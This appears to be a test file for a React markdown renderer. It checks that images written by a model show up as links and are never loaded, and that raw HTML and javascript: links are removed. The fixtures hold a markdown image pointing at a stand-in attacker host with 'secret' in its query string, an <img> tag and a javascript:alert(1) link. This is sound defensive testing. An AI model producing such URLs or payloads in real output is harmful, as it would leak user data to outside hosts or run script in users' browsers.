import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownView } from './markdown-view';

describe('MarkdownView', () => {
  it('shows an image as a link: nothing is loaded from an address a model wrote', () => {
    const { container } = render(
      <MarkdownView text={'Here: ![the chart](https://evil.example/x.png?d=secret) and **bold**'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'the chart' });
    expect(link.getAttribute('href')).toBe('https://evil.example/x.png?d=secret');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(screen.getByText('bold').tagName).toBe('STRONG');
  });

  it('drops raw HTML and unsafe links', () => {
    const { container } = render(
      <MarkdownView text={'<img src="https://evil.example/y.png"> [click](javascript:alert(1))'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('click').getAttribute('href') ?? '').not.toContain('javascript');
  });
});
